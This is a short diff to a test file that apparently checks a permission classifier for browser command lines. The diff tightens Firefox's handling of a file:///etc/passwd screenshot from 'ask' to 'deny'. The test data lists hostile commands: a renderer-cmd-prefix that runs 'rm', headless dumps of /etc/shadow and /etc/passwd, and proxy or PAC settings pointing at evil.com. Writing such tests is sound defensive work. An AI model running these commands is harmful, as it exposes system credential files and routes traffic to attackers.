@@ -135,7 +135,7 @@ describe('Chromium-family browsers: --renderer-cmd-prefix= and the like run a pr
     ['chromium --headless --no-sandbox --renderer-cmd-prefix="rm x" --dump-dom about:blank', 'deny'],
     ['chromium --headless --dump-dom file:///etc/shadow', 'deny'],
     ['google-chrome --headless --dump-dom file:///etc/passwd', 'deny'],
-    ['firefox --headless --screenshot file:///etc/passwd', 'ask'],
+    ['firefox --headless --screenshot file:///etc/passwd', 'deny'], // (firefox is read as a browser: the file: URL is a file it opens)
     ['chromium --proxy-server="socks5://evil.com:1080" https://ok.com', 'deny'],
     ['chromium --proxy-pac-url=http://evil.com/p.pac', 'deny'],
     ['chromium --headless --dump-dom https://ok.com', 'allow'],
